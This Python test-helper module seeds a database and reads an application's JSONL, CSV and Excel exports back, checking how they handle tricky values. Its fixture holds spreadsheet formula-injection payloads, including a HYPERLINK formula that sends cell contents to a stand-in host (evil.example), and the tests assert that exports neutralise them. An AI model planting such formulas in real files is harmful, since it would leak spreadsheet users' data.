"""Exports made and read back by other readers, and a database with something to export."""

import csv
import io
import json
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from datetime import date, datetime
from decimal import Decimal
from tempfile import TemporaryFile
from typing import Any

import asyncpg
import openpyxl
from sqlalchemy.engine import URL

from aid.access.actor import Actor
from aid.audit.service import Asker
from aid.database.engine import Database
from aid.interchange.exports.kinds import EXPORTED
from aid.interchange.exports.producing import produce
from aid.interchange.exports.terms import Kind, Order, Produced
from aid.sheets.columns import NO, TOTAL, YES, Column, Shape
from aid.sheets.formulas import meant
from aid.sheets.writing import Form
from aid.text import Locale
from tests.actors import LOCAL
from tests.conftest import TODAY, as_admin
from tests.integration.money_rows import MONEY
from tests.integration.work_rows import WORK

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"点我")'
TRICKY = f"""
{WORK}
{MONEY}
SET session_replication_role = replica;
UPDATE project SET name = $q${FORMULA}$q$, description = E'一, "二"\\n三', simulated = true,
  proposed_fen = 999999999999999, approved_fen = 12345678901, progress = 33.33,
  progress_on = '2007-06-01' WHERE code = 'P-540200-2';
UPDATE project SET name = '''-1', place = '@SUM(A1)', name_en = '＝1' WHERE code = 'P-532600-1';
UPDATE project SET sector_id = (SELECT id FROM sector WHERE code = 'health'),
  district_id = (SELECT d.id FROM supporting_district d JOIN division p ON p.id = d.division_id
                 ORDER BY p.code LIMIT 1) WHERE code = 'P-652900-1';
UPDATE project SET region_id = (SELECT id FROM division WHERE code = '540222' AND ended_on IS NULL)
  WHERE code = 'P-540200-1';
UPDATE milestone SET met_on = NULL;
UPDATE milestone SET met_on = '2007-04-11' WHERE project_id =
  (SELECT id FROM project WHERE code = 'P-540200-2');
UPDATE key_village SET households = 120, population = 512, simulated = true
  WHERE code = 'V-540200-1';
UPDATE village_work SET cost_fen = 1234567 WHERE village_id IN
  (SELECT id FROM key_village WHERE code LIKE '%-1');
RESET session_replication_role;
"""
"""Text that a spreadsheet would run, amounts of all sizes, places below places."""

Read = list[dict[str, Any]]


@asynccontextmanager
async def administering(admin_url: URL, name: str) -> AsyncIterator[asyncpg.Connection]:
    """The administrator's connection, which no row security holds."""
    connection = await asyncpg.connect(as_admin(admin_url, name))
    try:
        yield connection
    finally:
        await connection.close()


async def furnish(admin_url: URL, name: str) -> None:
    """Put something to export into a seeded database."""
    async with administering(admin_url, name) as admin:
        await admin.execute(TRICKY)


async def export(
    database: Database, kind: Kind, form: Form = Form.JSONL, *, actor: Actor = LOCAL,
    locale: Locale = "zh", on: date = TODAY, **filters: str,
) -> tuple[Produced, bytes]:
    """An export, made as `aid export` makes it; `from_` stands for from."""
    given = {name.rstrip("_"): value for name, value in filters.items()}
    order = Order(kind=kind, form=form, locale=locale, today=on, filters=given)
    with TemporaryFile() as file:
        made = await produce(database, order, file, actor=actor,
                             asker=Asker(actor.name, actor.role.value))
        file.seek(0)
        return made, file.read()


async def rows(database: Database, kind: Kind, **more: Any) -> Read:
    """What an export says, as JSON lines have it."""
    return lines_of((await export(database, kind, **more))[1])


def lines_of(data: bytes) -> Read:
    """JSON lines, read."""
    return [json.loads(line) for line in data.decode().splitlines()]


def table_of(data: bytes, kind: Kind, locale: Locale = "zh") -> Read:
    """CSV, read by the standard library, in the values of JSON lines."""
    head, *body = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    columns = _columns(kind, head, locale)
    return [{column.key: _of_text(column, cell, locale)
             for column, cell in zip(columns, line, strict=True)} for line in body]


def sheet_of(data: bytes, kind: Kind, locale: Locale = "zh") -> tuple[Read, Mapping[str, Any]]:
    """A workbook, read by openpyxl, in the values of JSON lines; and its sums by key."""
    head, *body = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()
    columns = _columns(kind, [cell.value for cell in head], locale)
    assert all(cell.data_type != "f" for line in body for cell in line)
    sums: dict[str, Any] = {}
    if any(column.total for column in columns):
        empty, last = body[-2:]
        body = body[:-2]
        assert [cell.value for cell in empty] == [None] * len(columns)
        assert last[0].value == TOTAL.to(locale)
        sums = {column.key: _of_cell(column, cell.value, locale)
                for column, cell in zip(columns, last, strict=True) if column.total}
    return [{column.key: _of_cell(column, cell.value, locale)
             for column, cell in zip(columns, line, strict=True)} for line in body], sums


def _columns(kind: Kind, head: list[Any], locale: Locale) -> list[Column]:
    columns = list(EXPORTED[kind].columns)
    assert head == [column.title.to(locale) for column in columns]
    return columns


def _of_text(column: Column, cell: str, locale: Locale) -> Any:
    if cell == "":
        return None
    if column.shape is Shape.INTEGER:
        return int(cell)
    if column.shape in (Shape.TEXT, Shape.CODE):
        return meant(cell)
    return _of_word(column, cell, locale)


def _of_word(column: Column, cell: str, locale: Locale) -> Any:
    if column.shape is Shape.FLAG:
        return {YES.to(locale): True, NO.to(locale): False}[cell]
    if column.shape is Shape.CHOICE:
        return next(str(key) for key, name in column.choices.items()
                    if name.to(locale) == cell)
    return cell


def _of_cell(column: Column, value: Any, locale: Locale) -> Any:
    if value is None or column.shape in (Shape.TEXT, Shape.CODE, Shape.INTEGER):
        return value
    match column.shape:
        case Shape.DAY:
            assert isinstance(value, datetime)
            return value.date().isoformat()
        case Shape.YUAN:
            return f"{Decimal(repr(value)):.2f}"
        case Shape.PERCENT:
            return _short(Decimal(repr(value)) * 100)
        case Shape.QUANTITY:
            return _short(Decimal(repr(value)))
        case _:
            return _of_word(column, value, locale)


def _short(number: Decimal) -> str:
    return f"{number.normalize():f}"
